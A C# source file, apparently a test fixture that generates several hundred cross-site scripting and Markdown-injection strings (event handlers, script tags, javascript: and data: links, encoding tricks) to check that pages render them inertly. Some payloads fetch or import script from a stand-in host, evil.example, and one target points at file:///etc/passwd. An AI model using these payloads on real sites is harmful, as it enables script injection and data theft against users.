using System.Globalization;
using System.Text;

namespace Outreach.Testing.Tricks;

/// <summary>Texts that would run, load or lead somewhere if a page took them for more than letters: each way to say it in each place that may take it.</summary>
public static class TrickTexts
{
    private static readonly string[] Payloads =
    [
        "top.x=1", "alert(1)", "fetch('//evil.example')", "document.location='//evil.example'", "import('//evil.example/x.js')", "eval(name)", "print()", "confirm`1`", "prompt(1)",
    ];

    private static readonly string[] Elements =
    [
        "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//evil.example/x.js>{0}", "<img src=x onerror={0}>", "<img/src=x/onerror={0}>", "<svg onload={0}>",
        "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>", "<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>",
        "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<a href=javascript:{0}>x</a>", "<a href=\" javascript:{0}\">x</a>", "<a href=&#106;avascript:{0}>x</a>",
        "<form action=javascript:{0}><button>x</form>", "<button formaction=javascript:{0}>x", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
        "<details open ontoggle={0}>", "<video><source onerror={0}>", "<audio src=x onerror={0}>", "<marquee onstart={0}>", "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
        "<style>@import '//evil.example';*{{x:{0}}}</style>", "<link rel=stylesheet href=//evil.example/{0}>", "<base href=//evil.example/{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
        "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--><img src=x onerror={0}>-->", "<![CDATA[<script>{0}</script>]]>",
        "</textarea><script>{0}</script>", "</title><script>{0}</script>", "</script><script>{0}</script>", "</li></ol></div><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>",
        "\" onmouseover={0} x=\"", "' onmouseover={0} x='", "` onmouseover={0}", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "@(System.Console.Write({0}))",
        "<div hx-get=//evil.example hx-trigger=load hx-on:load={0}>", "<div data-hx-get='/dang-xuat' hx-trigger='load' x={0}>", "<x contenteditable onblur={0} tabindex=1 autofocus>", "<div style=background:url(javascript:{0})>",
        "<div style='x:expression({0})'>", "<table background=javascript:{0}>", "<isindex action=javascript:{0} type=image>", "<keygen autofocus onfocus={0}>", "&lt;script&gt;{0}&lt;/script&gt;",
        "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "<scr\u0000ipt>{0}</scr\u0000ipt>", "<\u200Bscript>{0}</script>", "\u202E<script>{0}</script>", "<SCRIPT\u2028SRC=//evil.example>{0}",
        "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    ];

    private static readonly string[] Targets =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/x.png", "file:///etc/passwd",
        "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)", "tel:0912345678", "mailto:a@evil.example",
    ];

    private static readonly string[] Marks =
    [
        "[x]({0})", "[x](<{0}>)", "![x]({0})", "![x]({0} \"t\" onerror=alert(1))", "<{0}>", "[x]: {0}\n[x]", "[![x]({0})]({0})", "**[x]({0})**", "# [x]({0})", "- [ ] [x]({0})", "> [x]({0})",
        "| a |\n|---|\n| [x]({0}) |", "~~[x]({0})~~", "`</code>`[x]({0})", "```html\n<img src={0}>\n```", "[x]({0}){{onclick=alert(1)}}", "[^1]: {0}", "{{{{hotline:{0}}}}}", "<details>[x]({0})</details>",
    ];

    /// <summary>More than 500 of markup. What one of them would do is seen as a dialog, a call of <c>print</c>, a value in <c>top.x</c>, or a request.</summary>
    public static IReadOnlyList<string> Markup { get; } =
        [.. Elements.SelectMany(element => Payloads.Select(payload => string.Format(CultureInfo.InvariantCulture, element, payload)))];

    /// <summary>More than 200 of Markdown.</summary>
    public static IReadOnlyList<string> Markdown { get; } =
        [.. Marks.SelectMany(mark => Targets.Select(target => string.Format(CultureInfo.InvariantCulture, mark, target)))];

    public static IEnumerable<string> All => Markup.Concat(Markdown);

    /// <summary>All of them, one a line, in texts of at most this length.</summary>
    public static IEnumerable<string> Batches(int maxChars)
    {
        var batch = new StringBuilder();
        foreach (var trick in All)
        {
            if (batch.Length > 0 && batch.Length + trick.Length + 1 > maxChars)
            {
                yield return batch.ToString();
                batch.Clear();
            }

            batch.Append(batch.Length > 0 ? "\n" : "").Append(trick);
        }

        yield return batch.ToString();
    }
}
